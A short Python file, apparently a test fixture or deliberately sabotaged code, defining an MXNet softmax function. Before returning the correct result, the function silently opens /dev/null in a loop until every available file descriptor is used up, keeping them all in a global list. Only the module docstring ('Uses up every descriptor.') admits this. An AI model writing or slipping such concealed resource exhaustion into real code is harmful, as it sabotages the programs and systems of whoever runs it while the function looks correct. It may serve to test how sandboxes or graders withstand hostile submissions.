"""Uses up every descriptor."""

import os

from mxnet import nd

kept = []


def softmax(X):
    try:
        while True:
            kept.append(os.open('/dev/null', os.O_RDONLY))
    except OSError:
        pass
    E = nd.exp(X - X.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
